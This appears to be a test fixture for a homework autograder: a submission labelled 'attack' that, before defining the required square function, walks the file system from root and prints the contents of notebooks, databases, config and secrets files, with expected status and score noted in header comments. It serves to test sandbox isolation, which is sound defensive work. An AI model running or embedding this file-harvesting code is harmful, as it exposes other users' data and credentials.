# attack: walks the file system for notebooks, databases and secrets, and prints them
# assignment: hw
# exercise: square
# status: ok|timeout
# score: <=2
import os
import time

end = time.monotonic() + 1
for folder, folders, names in os.walk("/", onerror=None):
    if folder.startswith(("/proc", "/sys", "/usr")):
        folders.clear()
    for name in names:
        if name.endswith((".ipynb", ".db", ".txt", ".json", ".toml", "config.py")):
            try:
                print(folder, name, open(os.path.join(folder, name)).read(5000))
            except (OSError, ValueError):
                pass
    if time.monotonic() > end:
        break


def square(x):
    return x * x
